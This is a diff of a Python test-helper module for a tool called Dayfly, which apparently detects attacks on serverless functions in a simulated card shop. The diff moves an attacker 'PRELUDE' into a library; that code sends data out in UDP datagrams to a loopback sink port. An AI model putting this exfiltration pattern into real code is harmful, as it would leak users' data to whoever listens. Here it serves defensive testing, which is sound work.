@@ -5,7 +5,6 @@ from __future__ import annotations
 import http.client
 import json
 import os
-import socket
 import time
 from collections.abc import Mapping, Sequence
 from pathlib import Path
@@ -15,57 +14,20 @@ import pytest
 from tests.confined import confinement_here
 from tests.rie import Answer, Rie, Runtime
 
-FUNCTIONS = Path(__file__).parent / "functions"
-# What an attacker carries in every payload: a way out. Loopback, one datagram per card.
-PRELUDE = """
-import os, socket, sys, time
-def leak(data, _port=event["sink"]):
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
-        out.sendto(str(data).encode()[:4096], ("127.0.0.1", _port))
-"""
+from dayfly.lab.gauntlet import sink
+from dayfly.lab.gauntlet.evidence import normalised
+from dayfly.lab.gauntlet.sink import PRELUDE
+from dayfly.lab.gauntlet.technique import FUNCTIONS
 
+__all__ = ["FUNCTIONS", "OWN_FUNCTIONS", "PRELUDE", "Shop", "Sink", "needs_confinement"]
 
+# Functions of which no technique of the catalogue has need.
+OWN_FUNCTIONS = Path(__file__).parent / "functions"
 MANY = 1_000
 
 
-class Sink:
-    """Where stolen data arrives, between `__enter__` and `__exit__`."""
-
-    def __enter__(self) -> Sink:
-        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        self._socket.bind(("127.0.0.1", 0))
-        self.port: int = self._socket.getsockname()[1]
-        return self
-
-    def __exit__(
-        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
-    ) -> None:
-        self._socket.close()
-
-    def received(self, *, quiet_s: float = 0.05) -> list[str]:
-        """Everything that arrived, once nothing more came for `quiet_s` seconds (ten at most)."""
-        found: list[str] = []
-        self._socket.settimeout(quiet_s)
-        end = time.monotonic() + 10
-        while time.monotonic() < end:
-            try:
-                found.append(self._socket.recv(65536).decode(errors="replace"))
-            except TimeoutError:
-                break
-        return found
-
-    def seen(self, texts: Sequence[str], *, quiet_s: float = 0.05, limit_s: float = 0.5) -> set[str]:
-        """Which of these texts arrived, as soon as all have, nothing more comes, or `limit_s` seconds are over."""
-        found: set[str] = set()
-        self._socket.settimeout(quiet_s)
-        end = time.monotonic() + limit_s
-        while len(found) < len(texts) and time.monotonic() < end:
-            try:
-                datagram = self._socket.recv(65536).decode(errors="replace")
-            except TimeoutError:
-                break
-            found |= {text for text in texts if text in datagram}
-        return found
+class Sink(sink.Sink):
+    """The attacker's port, for tests that wait for something to arrive."""
 
     def wait_for(self, text: str, *, deadline_s: float = 5.0) -> None:
         """Return once a datagram holds `text`; fails the test if none does in time."""
@@ -92,13 +54,14 @@ class Shop:
         timeout_s: int = 8,
         confined: bool = True,
         refusals: bool | None = None,
-        function: Path = FUNCTIONS,
+        function: Path | None = None,
         command: Sequence[str] | None = None,
     ) -> None:
+        is_own = (OWN_FUNCTIONS / f"{handler.partition('.')[0]}.py").is_file()
         self.sink = Sink()
         self.runtime: Runtime = runtime
         self.rie = Rie(
-            function,
+            function or (OWN_FUNCTIONS if is_own else FUNCTIONS),
             handler,
             runtime=runtime,
             # Lambda allows no filter of system calls: nothing may be refused here thanks to one, nor to the guard.
@@ -178,6 +141,14 @@ class Shop:
             assert may_time_out >= 0, f"he got no answer of his own: {body!r}"
         return len(robbed)
 
+    def log(self) -> str:
+        """Everything that was printed so far."""
+        return self.rie.logs()
+
+    def wait_for_log(self, text: str, *, deadline_s: float) -> str:
+        """The log, as soon as it holds `text`; raises TimeoutError if it does not in time."""
+        return self.rie.wait_for_log(text, deadline_s=deadline_s)
+
     def stolen(self, cards: list[str], *, quiet_s: float = 0.05) -> int:
         """How many of these customers' cards have reached the sink."""
         return len(self.sink.seen(cards, quiet_s=quiet_s))
@@ -195,15 +166,6 @@ class Shop:
     def wait_for_finding(self, kind: str, *, deadline_s: float = 5.0) -> None:
         """Return once Dayfly has reported `kind`; fails the test if it does not in time."""
         self.rie.wait_for_log(f'"types":["{kind}"]', deadline_s=deadline_s)
-
-
-def normalised(body: bytes, card: str) -> str:
-    """An answer without what differs from customer to customer: two right ones are equal.
-
-    A card stays where it is not this customer's, so that a crossed answer is never a right one.
-    """
-    text = body.decode(errors="replace")
-    return text.replace(card, "CARD").replace(f'"{card[-4:]}"', '"LAST"')
 
 
 def needs_confinement() -> pytest.MarkDecorator:
